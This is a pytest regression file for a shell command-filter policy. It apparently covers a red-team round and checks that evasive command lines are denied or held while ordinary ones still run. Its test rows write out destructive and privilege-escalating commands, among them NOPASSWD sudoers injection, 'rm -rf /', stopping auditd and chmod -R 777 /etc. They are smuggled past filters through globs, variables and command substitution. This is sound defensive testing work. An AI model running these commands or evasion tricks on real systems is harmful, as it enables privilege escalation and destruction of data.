"""Attack k20f, findings 1, 2, 3, 10, 11, 12, 15, 16 and 19 (the twentieth round on the command
filter): a pattern, or a word known only at run time, where an option may stand. The programs
whose options were read as harmless (`PATTERN_SAFE`) have options that move a write (cp -t,
uniq's OUTPUT, xxd -r, chmod -R, git log --output), run code (printf -v, test -v) or read names
at run time (xz --files); a handled program's options given by a command substitution (gdb -ex,
a shell's -c); a glob in an attached value; options after `--` (find, unzip). The shipped policy:
the tester's lines and their siblings held or refused, typed and as an exec command, beside the
honest lines that still run."""

from __future__ import annotations

import pytest

from bastion.command_control.policy import KnownValues, evaluate
from bastion.command_control.policy.pattern_risk import RISKS, may_spell
from tests.rows import each
from tests.test_policy import action

HELD = ("deny", "confirm")


def exec_action(policy, line: str) -> str:
    """As an exec command: no terminal, the shell's variables tracked from a fresh start."""
    return evaluate(policy, line, role="engineer", target="web01", interactive=False,
                    known=KnownValues()).action


ROWS = [
    # F1 a pattern a PATTERN_SAFE writer takes as an option (after `touch ./-t`, `./-l`...)
    "cp ?t /etc/sudoers.d evil",
    "cp evil ?t /etc/sudoers.d x",
    "cp [-]t /etc/sudoers.d evil",
    "cp -[t] /etc/sudoers.d evil",
    "cp ?at /etc/sudoers.d evil",
    "cd /tmp && touch ./-t && printf 'ALL ALL=(ALL) NOPASSWD: ALL\\n' > evil && cp ?t /etc/sudoers.d evil",
    "cp ?-target-directory /etc/sudoers.d evil",
    "cp ?-t /etc/sudoers.d evil",
    "cp ?l /etc/sudoers x",
    "cp ?s /etc/sudoers x",
    "cp ?-link /etc/sudoers x",
    "cd /tmp/w && touch ./-l && cp ?l /etc/sudoers x && echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> x",
    "cd /tmp/src && cp ?-parents etc/sudoers.d/evil /",
    "cp @(-t) /etc/sudoers.d evil",
    "uniq evil ?i /etc/sudoers",
    "uniq [-]i evil /etc/sudoers",
    "xxd ?r evil.hex /etc/sudoers",
    "chmod ?R 777 /etc",
    "chown ?R nobody /etc",
    "chgrp ?R users /etc",
    "chmod ?-recursive 777 /etc",
    "chmod ?R /etc",  # the mode from the same pattern (`touch ./-R ./777`)
    "chmod * /etc",
    "chown * /etc",
    "mv ?T 777 /etc",
    "cp -r ?T src /etc/sudoers.d",
    "mv ?t 777 /etc",
    "ln ?t /etc/sudoers.d evil",
    "gzip ?r /etc",
    "file ?C /etc/sudoers x",
    "tree ?o /etc/sudoers x",
    # the same options given by a word known only at run time (interactive: nothing is known)
    "x=-t; cp $x /etc/sudoers.d evil",
    "cp $(printf -- -t) /etc/sudoers.d evil",
    "chown ${x:--R} nobody /etc",
    # F2 printf -v / test -v / [ -v: a subscript's arithmetic runs code; -v sets hooks
    "printf ?v 'a[$(systemctl stop auditd)]' x",
    "printf [-]v PROMPT_COMMAND 'rm -rf /'",
    "printf ?v PATH /tmp",
    "test ?v 'a[$(rm -rf /)]'",
    "[ ?v 'a[$(rm -rf /)]' ]",
    "test ?R 'a[$(rm -rf /)]'",
    "[ * ]",
    "printf $(printf -- -v) PROMPT_COMMAND 'rm -rf /'",
    "x=-v; printf $x PROMPT_COMMAND 'rm -rf /'",
    "a=-v; [ $a 'x[$(rm -rf /)]' ]",
    "[ \"$a\" 'x[$(rm -rf /)]' ]",
    "[ ! \"$a\" 'x[$(rm -rf /)]' ]",
    # F3 xz --files / --files0 read the names to compress and remove at run time
    "xz --files=l",
    "xz --files0=l",
    "xz --fi l",
    "xz --files",
    "printf '/etc/sudoers\\n' | xz --files",
    "unxz --files=l",
    "xzcat --files=l",
    "lzma --files=l",
    "xz -k --files=l",
    "touch ./--files=l; xz ?-*",
    "xz *.log",
    'xz "$f"',
    # the class: other programs reading the files to work on from a list at run time
    "zstd --rm --filelist=l",
    "zstd --filel l",
    "7z a -sdel /tmp/a.7z @list",
    "7z a /tmp/a.7z -i@list",
    "rar m /tmp/a.rar @list",
    # F10 git's diff, log and show write --output FILE (and run drivers)
    "git log -1 --format='tformat:ALL ALL=(ALL) NOPASSWD: ALL' ?-output /etc/sudoers.d/zz",
    "git log -1 --format=x [-]-output /etc/sudoers.d/zz",
    "cd /tmp/repo && touch ./--output && git log -1 ?-output /etc/sudoers.d/zz",
    "git diff ?-output /etc/sudoers",
    "git show ?-output /etc/sudoers",
    "git diff ?-ext-diff",
    "git rm ?-pathspec-from-file=l",
    # F11 a command substitution as an option of a handled program
    "gdb -batch $(printf -- -ex) 'shell rm -rf /'",
    "gdb -batch ${x:--ex} 'shell rm -rf /'",
    "gdb $(printf -- -x) /tmp/evil.gdb",
    "ninja $(printf -- -C) /etc x",
    "nodemon x $(printf -- -x) 'rm -rf /'",
    "bpftrace x $(printf -- -c) 'rm -rf /'",
    "git log $(printf -- --output) /etc/sudoers.d/zz",
    "git $(printf -- -c) core.pager='rm -rf /' log",
    "make $(printf -- -E) x",
    "lldb -b $(printf -- -o) 'platform shell rm -rf /'",
    "wget $(printf -- -O/etc/sudoers) http://example.com/x",
    # F12 a glob in an attached option value
    "cp --target-directory=/etc/sudoers.[d] evil",
    "cp --t=/etc/sudoers.[d] evil",
    "cp -t/etc/sudoers.[d] evil",
    "cp --target-directory=/e[t]c/sudoers.d evil",
    "mv -t/etc/sudoers.[d] evil",
    "install -t/etc/sudoers.[d] evil",
    "sort -o/etc/sudoer[s] x",
    # F15 a variable set to a pattern, expanded unquoted (pathname expansion applies)
    "x='?c'; bash $x 'rm -rf /'",
    "x='[-]c'; sh $x 'rm -rf /'",
    "x='?c'; sudo bash $x 'systemctl stop auditd'",
    "x='?c'; env bash $x 'rm -rf /'",
    "x='?c'; find . -exec bash $x 'rm -rf /' \\;",
    "x=?c; exec bash $x 'rm -rf /'",
    "x='-*'; bash $x 'rm -rf /'",
    "x='-*'; dash $x 'rm -rf /'",
    "x='?ex'; gdb -batch $x 'shell rm -rf /'",
    "x='?v'; test $x 'a[$(rm -rf /)]'",
    "x='?-output'; git log $x /etc/sudoers.d/zz",
    "x='?-files=l'; xz $x",
    "x='?t'; cp $x /etc/sudoers.d evil",
    # F16 a shell's -c given by a word known only at run time
    "bash $(printf -- -c) 'rm -rf /'",
    "bash \"$(printf %s -c)\" 'systemctl stop auditd'",
    "sh `echo -c` 'rm -rf /'",
    "sudo bash $(printf -- -c) 'rm -rf /'",
    "dash ${x:--c} 'rm -rf /'",
    "bash ${x:-+c} 'rm -rf /'",
    "bash $x 'rm -rf /'",
    "x=-c; bash $x 'rm -rf /'",
    "set -- -c 'rm -rf /'; bash \"$@\"",
    "set -- -c; bash $1 'rm -rf /'",
    "a=(-c 'rm -rf /'); bash \"${a[@]}\"",
    "printf -v x %s -c; bash $x 'rm -rf /'",
    "read x <<< -c; bash $x 'rm -rf /'",
    "declare x=-c; bash $x 'rm -rf /'",
    "bash \"${@:--c}\" 'rm -rf /'",
    "x=-c bash -c 'bash $x \"rm -rf /\"'",
    "bash -c 'bash $0 \"rm -rf /\"' -c",
    "bash -c 'bash \"$1\" \"$2\"' _ -c 'rm -rf /'",
    "zsh $(printf -- -c) 'rm -rf /'",
    "x='?c'; elvish $x 'rm -rf /'",
    # F19 options after `--`: find's expression, unzip's -d
    "find -- / ?delete",
    "find -- /etc/sudoers.d ?delete",
    "find -L -- / ?delete",
    "find -- /tmp/x ?exec rm -rf / \\;",
    "find -- . ?execdir sh -c 'systemctl stop auditd' \\;",
    "find -- /etc -name shadow ?fprint /etc/sudoers.d/zz",
    "unzip -- a.zip ?d /etc/sudoers.d",
    "unzip -o -- /tmp/evil.zip [-]d /etc/sudoers.d",
    "zipinfo -- a.zip ?x",
]


@each("line", ROWS)
def test_attack_k20f_a_lines_are_held_or_refused(default_policy, line):
    assert action(default_policy, line) in HELD


@each("line", ROWS)
def test_attack_k20f_a_lines_are_held_or_refused_as_exec_commands(default_policy, line):
    assert exec_action(default_policy, line) in HELD


HONEST = [
    "ls *", "ls -la *", "du -sh *", "grep -r x *", "rm *.log", "cp *.conf /srv/app/",
    "cp *.conf /srv/app/conf.d/", "mv *.log old/", "git add *", "tar czf x ./*",
    'for f in *.log; do gzip "$f"; done', "sudo ls *", "wc -l *.txt", "cat *.log",
    "gzip *.log", "xz ./*.log", "xz -- *.log", "zcat *.gz", "ln -s *.so /tmp/x/",
    "touch *.log", "file *", "chmod u+x *.sh",
    "printf '%s\\n' *", "printf -- *", "echo *", "[ -f *.log ]", "test -e *.conf",
    '[ "$a" = "$b" ]', '[ -z "$x" ]', '[ -n "$x" ]', '[ "$x" ]', 'test -f "$f"',
    '[ "$a" = x -a "$b" = y ]', 'test "$x" -eq 3', "printf '%s' \"$x\"",
    "git status", "git log -- *", "git diff", "git log -1", "git commit -m \"$msg\"",
    'git add "$f"', "make", 'make -j"$(nproc)"', 'make -j "$n"', 'gdb -batch -nx -p "$pid" -ex bt',
    "bash ./deploy.sh", "bash -c 'ls'", "find . -name '*.py'", "find -- . -name '*.py'",
    "unzip a.zip -d /tmp/out", 'ls "$d"', "zstd -d a.zst", "xz -k a", "7z x a.7z -o/tmp/x",
]


@each("line", HONEST)
def test_attack_k20f_a_honest_lines_run(default_policy, line):
    assert action(default_policy, line) == "allow"


@each("line", ["gunzip *.gz", "chmod 644 *", "chown www-data ./*", "mkdir -p *"])
def test_attack_k20f_a_honest_lines_a_rule_alerts_on_still_run(default_policy, line):
    assert action(default_policy, line) == "alert"


@each(("pattern", "program", "line_operands", "spells"), [
    ("?t", "cp", False, True),  # -t DIR: the next word
    ("*", "cp", False, True),
    ("*.conf", "cp", False, False),  # -t<name>.conf: a name here; -l.conf: refused by cp
    ("*.conf", "cp", True, True),  # -lt.conf: links, with a source the line names
    ("?l", "cp", False, False),  # -l matters only with a source the line names
    ("?l", "cp", True, True),
    ("[-]-par*", "cp", True, True),  # --parents by a start of its name
    ("-t..", "cp", False, True),  # the directory above
    ("*.log", "chown", True, False),
    ("?T", "mv", True, True),
    ("?T", "mv", False, True),  # `-t` under nocaseglob (attack p25f, finding 1)
    ("?[[.T.]]", "mv", False, True),
    ("?[[:digit:]]", "mv", False, True),  # a class is read as any one character (stricter)
    ("*.log", "mv", False, False),  # -t.log: a name here
    ("?R", "chmod", True, True),
    ("?w", "chmod", True, False),  # a mode
    ("?-files=*", "xz", False, True),
    ("*.log", "xz", False, True),  # --files=a.log
    ("-k", "xz", False, False),
    ("*", "test", False, True),  # -v
    ("*.log", "test", False, False),
])
def test_a_pattern_spells_a_risky_option_as_getopt_reads_it(pattern, program, line_operands,
                                                            spells):
    assert may_spell(pattern, RISKS[program], line_operands) is spells


# -- end to end: a shell's -c from a run-time word, through a real bastion and sshd -------------

@pytest.fixture(scope="module")
def world(tmp_path_factory):
    from tests.harness import World
    from tests.test_channels import POLICY

    made = World(tmp_path_factory.mktemp("k20fa"), policy=POLICY)
    yield made
    made.close()


@pytest.mark.parametrize("line", [
    "bash $(printf -- -c) 'touch {c}'",
    "bash ${{x:--c}} 'touch {c}'",
    "sh `echo -c` 'touch {c}'",
])
def test_a_shells_code_option_known_only_at_run_time_is_refused_end_to_end(world, tmp_path, line):
    """F16 (the tester's end-to-end test): the exec is refused (the `unknown` default of the
    channel tests' policy is deny) and the refused command never ran."""
    from tests.harness import LOGIN

    alice = world.person("alice")
    world.grant(alice, duration=3600)
    canary = tmp_path / "canary"
    result = alice.run(f"{LOGIN}@web01", line.format(c=canary))
    assert result.returncode != 0
    assert not canary.exists()
